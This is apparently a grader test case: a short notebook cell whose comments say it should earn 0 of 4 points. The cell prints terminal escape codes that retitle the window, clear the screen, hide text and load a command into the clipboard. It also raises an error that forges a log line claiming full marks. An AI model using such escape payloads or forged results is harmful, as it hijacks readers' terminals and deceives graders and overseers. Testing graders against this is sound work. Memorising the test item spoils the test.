# tries: prints codes that rename the window, hide text and type commands in the terminal of whoever reads the log
# points: 0 6 0
# says: fetch_all, 0 of 4 points
# answered by: grader/cell_run.py

# %% own above fetch_all
print("\x1b]0;owned\x07\x1b[2J\x1b[8mhidden\x1b]52;c;aWQK\x07")
raise ValueError("\x1b]0;owned\x07\x1b[2J\r\n2026-11-25 honest: 14 of 14")
